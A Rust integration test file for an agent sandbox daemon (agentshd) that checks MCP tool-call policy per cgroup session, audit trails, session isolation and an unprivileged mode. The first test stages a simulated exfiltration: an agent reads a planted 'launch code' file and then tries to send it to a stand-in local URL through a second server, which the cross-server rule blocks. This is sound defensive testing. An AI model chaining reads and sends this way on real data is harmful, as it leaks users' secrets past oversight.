//! agentshd with sessions, as a user runs it: `agentshctl run` starts an agent in a cgroup
//! session, the MCP servers it launches with npx go through launcher shims and agentsh-shim in
//! daemon mode, one engine decides for both servers, and the audit trail is queried per session.
//! Needs root (cgroups), as CI runs.

use std::time::Duration;

use agentsh_tests::bin;
use agentsh_tests::daemon::{Daemon, client, is_root, skip_unless_root};
use serde_json::Value;

const READ_THEN_SEND_BLOCKS: &str = "sandbox:
  mcp:
    cross_server:
      read_then_send: {enabled: true, window_seconds: 300, action: block}
";

#[test]
fn one_engine_for_two_real_servers_of_a_session() {
    if skip_unless_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let files = dir.path().join("files");
    std::fs::create_dir(&files).unwrap();
    std::fs::write(files.join("notes.txt"), "launch code 0000-1111-2222-3333\n").unwrap();
    let mut daemon = Daemon::start(dir.path(), READ_THEN_SEND_BLOCKS);

    // Read with the filesystem server, then send with another server: the agent's own npx
    // launches go through the launcher shims; the client never names agentsh.
    let read = format!(
        r#"[{{"op":"list"}},{{"op":"call","name":"read_text_file","arguments":{{"path":"{}"}}}}]"#,
        files.join("notes.txt").display()
    );
    let send = r#"[{"op":"list"},{"op":"call","name":"gzip-file-as-resource","arguments":{"name":"x.gz","data":"http://127.0.0.2:9/?q=launch-code"}}]"#;
    let script = format!(
        "{} && {}",
        client(
            &read,
            &format!(
                "npx -y @modelcontextprotocol/server-filesystem {}",
                files.display()
            )
        ),
        client(send, "npx -y @modelcontextprotocol/server-everything")
    );
    let out = daemon.run_session("two-servers", &script);
    assert!(out.status.success(), "{}\n{}", out.stdout, out.stderr);
    let steps: Vec<Value> = out
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(steps.len(), 4, "{}", out.stdout);
    assert_eq!(steps[1]["ok"], true, "the read is allowed: {}", steps[1]);
    assert_eq!(steps[3]["ok"], false, "the send is refused: {}", steps[3]);
    let message = steps[3]["error"]["message"].as_str().unwrap();
    assert!(message.contains("cross_server/read_then_send"), "{message}");

    // The trail, by session: both servers under the ids the launchers derived.
    let id = daemon.session_id("two-servers");
    let calls = daemon.json_lines(&["mcp", "calls", "--session", &id, "--json"]);
    let verdicts: Vec<(String, String, String)> = calls
        .iter()
        .map(|e| {
            (
                e["server"].as_str().unwrap().to_owned(),
                e["tool"].as_str().unwrap().to_owned(),
                e["action"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        verdicts,
        [
            ("filesystem".into(), "read_text_file".into(), "allow".into()),
            (
                "everything".into(),
                "gzip-file-as-resource".into(),
                "block".into()
            ),
        ]
    );
    assert!(calls.iter().all(|e| e["session"] == id.as_str()));
    let blocked = daemon.json_lines(&[
        "mcp",
        "calls",
        "--session",
        &id,
        "--action",
        "block",
        "--json",
    ]);
    assert_eq!(blocked.len(), 1);
    let detections = daemon.json_lines(&["mcp", "detections", "--session", &id, "--json"]);
    assert!(
        detections
            .iter()
            .any(|e| e["rule"] == "cross_server/read_then_send"),
        "{detections:?}"
    );

    // A second session cannot read the first one's events; its own view has only itself.
    let ctl = bin("agentshctl");
    let probe = format!(
        "{ctl} mcp events --session {id} --json; echo \"exit=$?\"; {ctl} mcp events --json",
        ctl = ctl.display()
    );
    let out = daemon.run_session("prober", &probe);
    assert!(
        out.stderr.contains("may only read their own session"),
        "{}",
        out.stderr
    );
    assert!(out.stdout.contains("exit=2"), "{}", out.stdout);
    let seen: Vec<Value> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        !seen.is_empty() && seen.iter().all(|e| e["session"] != id.as_str()),
        "{seen:?}"
    );

    // The session report and the profile-then-lock policy, which `policy check` accepts.
    let report = daemon.ctl(&["session", "report", &id, "--json"]);
    let report: Value = serde_json::from_str(&report.stdout).unwrap();
    assert_eq!(report["calls"]["allowed"], 1);
    assert_eq!(report["calls"]["blocked"], 1);
    let generated = dir.path().join("locked.yaml");
    let out = daemon.ctl(&["policy", "generate", &id, "-o", generated.to_str().unwrap()]);
    assert!(out.status.success(), "{}", out.stderr);
    let text = std::fs::read_to_string(&generated).unwrap();
    assert!(
        text.contains("tool: \"read_text_file\", content_hash: \"sha256:"),
        "{text}"
    );
    assert!(
        text.contains("#   - {server: \"everything\", tool: \"gzip-file-as-resource\""),
        "{text}"
    );
    let check = daemon.ctl(&["policy", "check", generated.to_str().unwrap()]);
    assert!(check.status.success(), "{}\n{text}", check.stderr);

    // SIGKILL loses nothing: every event is still there after a restart. The new run may add
    // the session's end, when the old one was killed before it noticed the cgroup empty.
    let before = daemon.json_lines(&["mcp", "events", "--session", &id, "--json"]);
    daemon.restart_after_kill9();
    let after = daemon.json_lines(&["mcp", "events", "--session", &id, "--json"]);
    assert!(after.len() >= before.len(), "{after:#?}");
    assert_eq!(after[..before.len()], before[..]);
    assert!(
        after[before.len()..]
            .iter()
            .all(|e| e["event"] == "session_ended" || e["event"] == "audit_checkpoint"),
        "{after:#?}"
    );
}

#[test]
fn exit_status_and_cgroup_of_the_agent() {
    if skip_unless_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let daemon = Daemon::start(dir.path(), "sandbox: {mcp: {}}\n");
    // The agent sees its session's cgroup; a sub-cgroup it makes stays in the session.
    let script = format!(
        "grep '^0::' /proc/self/cgroup; \
        d=/sys/fs/cgroup/unified$(grep '^0::' /proc/self/cgroup | cut -d: -f3); \
        [ -d $d ] || d=/sys/fs/cgroup$(grep '^0::' /proc/self/cgroup | cut -d: -f3); \
        mkdir $d/sub && echo $$ > $d/sub/cgroup.procs && grep '^0::' /proc/self/cgroup; \
        {ctl} --socket {socket} session list --json >&2; exit 3",
        ctl = bin("agentshctl").display(),
        socket = daemon.socket.display()
    );
    let out = daemon.run_session("status", &script);
    assert_eq!(out.status.code(), Some(3), "{}", out.stderr);
    let id = daemon.session_id("status");
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{}", out.stdout);
    assert!(lines[0].ends_with(&format!("/{id}")), "{}", lines[0]);
    assert!(lines[1].ends_with(&format!("/{id}/sub")), "{}", lines[1]);
    // From the sub-cgroup, the daemon still sees a process of the session: it lists only it.
    let listed: Vec<Value> = out
        .stderr
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(listed.len(), 1, "{}", out.stderr);
    assert_eq!(listed[0]["id"], id.as_str());
    // The session ends when its cgroup empties.
    std::thread::sleep(Duration::from_secs(1));
    let list = daemon.ctl(&["session", "list", "--json"]);
    let record: Value = list
        .stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|s| s["id"] == id.as_str())
        .unwrap();
    assert_eq!(record["live"], false, "{record}");
    assert!(record["ended_at"].is_u64(), "{record}");
}

/// agentshd started as an unprivileged user (nobody): it says what it cannot do, tracks
/// sessions by process ancestry instead of cgroups, and still decides every call of a shim in
/// the session. The binaries and the server are copied to a directory nobody can reach, so
/// the test does not depend on where the checkout lives.
#[test]
fn an_unprivileged_daemon_says_what_it_cannot_do_and_still_decides() {
    use std::io::{BufRead, BufReader};
    use std::os::unix::process::CommandExt;
    use std::process::{Command, Stdio};

    if !is_root() {
        eprintln!("skipped: needs root to start agentshd as another user (CI runs as root)");
        return;
    }
    let nobody = nix::unistd::User::from_name("nobody")
        .unwrap()
        .expect("the nobody user");
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for name in ["agentshd", "agentshctl", "agentsh-shim"] {
        std::fs::copy(bin(name), root.join(name)).unwrap();
    }
    std::fs::copy(
        agentsh_tests::repo_root().join("tests/peers/servers/recorder.py"),
        root.join("recorder.py"),
    )
    .unwrap();
    std::fs::write(
        root.join("policy.yaml"),
        "sandbox:\n  mcp:\n    denied_tools: [{server: files, tool: write_file}]\n",
    )
    .unwrap();
    std::fs::write(
        root.join("agentsh.yaml"),
        "state_dir: state\nsocket: agentsh.sock\npolicy: policy.yaml\n",
    )
    .unwrap();
    for entry in std::fs::read_dir(root).unwrap() {
        nix::unistd::chown(&entry.unwrap().path(), Some(nobody.uid), Some(nobody.gid)).unwrap();
    }
    nix::unistd::chown(root, Some(nobody.uid), Some(nobody.gid)).unwrap();
    let as_nobody = |program: &str| {
        let mut cmd = Command::new(root.join(program));
        cmd.uid(nobody.uid.as_raw())
            .gid(nobody.gid.as_raw())
            .env("HOME", root)
            .env_remove("XDG_RUNTIME_DIR")
            .current_dir(root);
        cmd
    };

    let mut daemon = Stop(
        as_nobody("agentshd")
            .args(["--foreground", "--config", "agentsh.yaml"])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap(),
    );
    let mut said = Vec::new();
    let mut out = BufReader::new(daemon.0.stdout.take().unwrap());
    while !said
        .last()
        .is_some_and(|l: &String| l.contains("start an agent with"))
    {
        let mut line = String::new();
        assert!(
            out.read_line(&mut line).unwrap() > 0,
            "agentshd ended: {said:?}"
        );
        said.push(line);
    }
    let said = said.concat();
    assert!(said.contains("sessions by process ancestry"), "{said}");
    assert!(
        said.contains("limitation: sessions are tracked by process ancestry, not cgroups"),
        "{said}"
    );
    assert!(said.contains("limitation: no kernel enforcement"), "{said}");

    // An agent session of the same user: its shim asks the daemon, which finds the session
    // from the shim's ancestry.
    let requests = [
        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}"#,
        r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"read_file","arguments":{}}}"#,
        r#"{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"write_file","arguments":{}}}"#,
    ]
    .join("\\n");
    let script = format!(
        "printf '{requests}\\n' | ./agentsh-shim --server-id files -- python3 recorder.py log"
    );
    let mut run = as_nobody("agentshctl");
    run.args([
        "--socket",
        "agentsh.sock",
        "run",
        "--name",
        "dev",
        "--",
        "sh",
        "-c",
    ])
    .arg(&script);
    let out = agentsh_tests::run_bounded(run, b"", Duration::from_secs(60));
    assert!(out.status.success(), "{}\n{}", out.stdout, out.stderr);
    let replies: Vec<Value> = out
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let by_id = |id: u64| {
        replies
            .iter()
            .find(|r| r["id"] == id)
            .unwrap_or_else(|| panic!("no reply {id}: {}", out.stdout))
    };
    assert!(by_id(3)["result"].is_object(), "{}", by_id(3));
    let refused = by_id(4)["error"]["message"].as_str().unwrap_or_default();
    assert!(refused.contains("denied_tools"), "{}", by_id(4));

    // The trail, by the session the daemon found for the shim.
    let query = |args: &[&str]| {
        let mut cmd = as_nobody("agentshctl");
        cmd.args(["--socket", "agentsh.sock"]).args(args);
        let out = agentsh_tests::run_bounded(cmd, b"", Duration::from_secs(30));
        assert!(out.status.success(), "{args:?}: {}", out.stderr);
        out.stdout
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .collect::<Vec<_>>()
    };
    let sessions = query(&["session", "list", "--json"]);
    let id = sessions
        .iter()
        .find(|s| s["name"] == "dev")
        .and_then(|s| s["id"].as_str())
        .unwrap_or_else(|| panic!("{sessions:?}"))
        .to_owned();
    let calls: Vec<(String, String)> = query(&["mcp", "calls", "--session", &id, "--json"])
        .iter()
        .map(|e| {
            (
                e["tool"].as_str().unwrap_or_default().to_owned(),
                e["action"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        calls,
        [
            ("read_file".to_owned(), "allow".to_owned()),
            ("write_file".to_owned(), "block".to_owned())
        ]
    );
}

/// Stops the daemon (SIGTERM, then waits) when the test ends, however it ends.
struct Stop(std::process::Child);

impl Drop for Stop {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.0.id() as i32),
            nix::sys::signal::Signal::SIGTERM,
        );
        let _ = agentsh_tests::wait_bounded(&mut self.0, Duration::from_secs(10));
    }
}
